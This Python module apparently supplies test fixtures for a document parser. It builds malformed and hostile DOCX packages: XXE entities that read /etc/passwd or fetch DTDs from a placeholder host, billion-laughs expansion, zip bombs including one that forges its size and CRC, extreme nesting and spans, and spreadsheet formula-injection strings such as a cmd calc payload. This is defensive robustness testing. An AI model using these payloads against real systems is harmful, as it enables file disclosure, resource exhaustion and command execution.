"""Packages that are well-made and hold a trap."""

import struct
import zlib

from corpus.handmade.ink import Cell, W, document, para, run, table
from corpus.handmade.parcel import HEAD, Entry, Parts, styles, zipped
from corpus.handmade.sheets import WIDTHS, Sheet, heading
from corpus.hostile.expectations import Hostile
from corpus.independent.truth import Form

MEBI = 1 << 20
ALL_READ = ("ok", "unrecognised")
ANY = ("ok", "unrecognised", "failed")
BIG = ("too_large",)


def _with_main(xml: bytes) -> bytes:
    members = Parts(document("")).members()
    members["word/document.xml"] = xml
    return zipped([Entry(name, data) for name, data in members.items()])


def _declared(doctype: str, text: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'


def _laughs() -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE d [<!ENTITY l0 "哈哈">{levels}]>'


def _bomb(*, lying: bool = False) -> bytes:
    """Return a package whose document.xml has 34 MiB; `lying`, the zip says it has 4 kB."""
    start, end = document("\0").split("\0")
    data = (HEAD + start + "<w:p/>" * (34 * MEBI // 6) + end).encode()
    package = _with_main(data)
    if not lying:
        return package
    return package.replace(struct.pack("<I", len(data)), struct.pack("<I", 4096)).replace(
        struct.pack("<I", zlib.crc32(data)), struct.pack("<I", zlib.crc32(data[:4096]))
    )


def _nested(depth: int) -> bytes:
    xml = para(run("最里面"))
    for _ in range(depth):
        xml = f"<w:tbl><w:tr><w:tc>{xml}<w:p/></w:tc></w:tr></w:tbl>"
    return Parts(document(xml + "<w:p/>")).zipped()


def _deep(depth: int) -> bytes:
    xml = "<w:sdt><w:sdtContent>" * depth + para() + "</w:sdtContent></w:sdt>" * depth
    return Parts(document(xml)).zipped()


def _spans(span: str) -> bytes:
    rows = (
        f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="{span}"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>'
        * 3
    )
    rows += f'<w:tr><w:trPr><w:gridBefore w:val="{span}"/><w:gridAfter w:val="{span}"/></w:trPr><w:tc><w:p/></w:tc></w:tr>'
    return Parts(document(f"<w:tbl>{rows}</w:tbl>")).zipped()


def _circle() -> bytes:
    names = ("甲", "乙", "丙")
    pairs = zip(names, (*names[1:], names[0]), strict=True)
    more = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>'
        for a, b in pairs
    )
    body = para(run("R"), props='<w:pStyle w:val="甲"/>')
    return Parts(document(body), {"styles": styles(more=more)}).zipped()


def _form(cells: dict[str, str], unit: str = "甲乡人民政府") -> Parts:
    rows = ("total", "fiscal", "own", "own_business", "own_operating", "own_other", "other")
    form = Form("project_fund_monitoring", {}, {name: {} for name in rows})
    return Parts(document(heading(unit) + table(Sheet(form, cells).rows(), WIDTHS) + para()))


def _backslashes() -> bytes:
    parts = _form({"project_name": "反斜线"}).entries()
    return zipped([Entry(entry.name.replace("/", "\\"), entry.data) for entry in parts])


def files() -> list[Hostile]:
    """Return the files."""
    stolen = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    fetched = '<!DOCTYPE d SYSTEM "http://form.invalid/d.dtd">'
    parameter = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://form.invalid/p.dtd"> %p;]>'
    wide = _declared(stolen, "&x;").replace("UTF-8", "UTF-16").encode("utf-16")
    types = Parts(document(para())).members()
    types["[Content_Types].xml"] = types["[Content_Types].xml"].replace(
        b"?>\n", b'?>\n<!DOCTYPE Types [<!ENTITY x "y">]>', 1
    )
    half = "<w:r><w:t>&#xD800;</w:t></w:r>"
    boxes = "延续项目□新增项目□" * 5000 + "☑"
    wide_table = table([[Cell() for _ in range(1100)]], [9] * 1100)
    many = wide_table.replace("</w:tr></w:tbl>", "</w:tr>" + "<w:tr/>" * 1000 + "</w:tbl>")
    digits = {"funds.total.annual": "9" * 5000, "funds.fiscal.annual": "1e999999999"}
    digits |= {"funds.own.annual": "NaN", "funds.other.annual": "1_000"}
    return [
        Hostile(
            "external_entity",
            "an entity that names a file",
            _with_main(_declared(stolen, "&x;").encode()),
        ),
        Hostile("external_entity_utf16", "the same in UTF-16", _with_main(wide)),
        Hostile("external_dtd", "a DTD on a server", _with_main(_declared(fetched, "").encode())),
        Hostile(
            "parameter_entity",
            "a parameter entity on a server",
            _with_main(_declared(parameter, "").encode()),
        ),
        Hostile(
            "billion_laughs",
            "entities that grow tenfold, nine times",
            _with_main(_declared(_laughs(), "&l9;").encode()),
        ),
        Hostile(
            "doctype_in_types",
            "a harmless DOCTYPE in [Content_Types].xml",
            zipped([Entry(n, d) for n, d in types.items()]),
        ),
        Hostile("bomb", "34 MiB of empty paragraphs", _bomb(), code=BIG),
        Hostile(
            "bomb_that_lies",
            "the same; the zip says 4 kB",
            _bomb(lying=True),
            code=("too_large", "unreadable"),
        ),
        Hostile("nested_tables", "200 nested tables", _nested(200), ANY, BIG),
        Hostile(
            "nested_controls",
            "5,000 nested content controls",
            _deep(5000),
            code=("too_large", "unreadable"),
        ),
        Hostile(
            "span_of_two_billion",
            "gridSpan, gridBefore, gridAfter of 2147483647",
            _spans("2147483647"),
            ALL_READ,
        ),
        Hostile(
            "span_of_forty_digits",
            "the same with 40 digits",
            _spans("9" * 40),
            ANY,
            ("unreadable", "too_large"),
        ),
        Hostile("span_negative", "the same with -1", _spans("-1"), ALL_READ),
        Hostile("span_no_number", "the same with 三", _spans("三"), ANY),
        Hostile("span_zero", "the same with 0", _spans("0"), ALL_READ),
        Hostile(
            "wide_and_long",
            "1,100 columns by 1,001 rows, nearly all without cells",
            Parts(document(many)).zipped(),
            ANY,
            BIG,
        ),
        Hostile("style_circle", "three styles based on each other", _circle(), ("unrecognised",)),
        Hostile(
            "half_a_character",
            "a reference to a lone surrogate",
            Parts(document(f"<w:p>{half}</w:p>")).zipped(),
        ),
        Hostile(
            "ten_thousand_boxes",
            "a form with 10,001 boxes in one cell",
            _form({"project_type": boxes}).zipped(),
            ("ok",),
        ),
        Hostile(
            "parentheses",
            "a form whose unit is 60,000 opening brackets",
            _form({"project_name": "（" * 60000}, "(" * 60000).zipped(),
            ("ok",),
        ),
        Hostile(
            "numbers",
            "5,000 digits, 1e999999999, NaN and 1_000 as amounts",
            _form(digits).zipped(),
            ("ok",),
        ),
        Hostile(
            "formulas",
            "texts that begin like formulas",
            _form(
                {
                    "project_name": '=HYPERLINK("http://form.invalid")',
                    "project_overview": "@SUM(1)",
                    "implementing_unit": "+cmd|' /C calc'!A0",
                }
            ).zipped(),
            ("ok",),
        ),
        Hostile(
            "backslashes",
            "a form whose members are named word\\document.xml",
            _backslashes(),
            ("ok", "failed"),
        ),
    ]
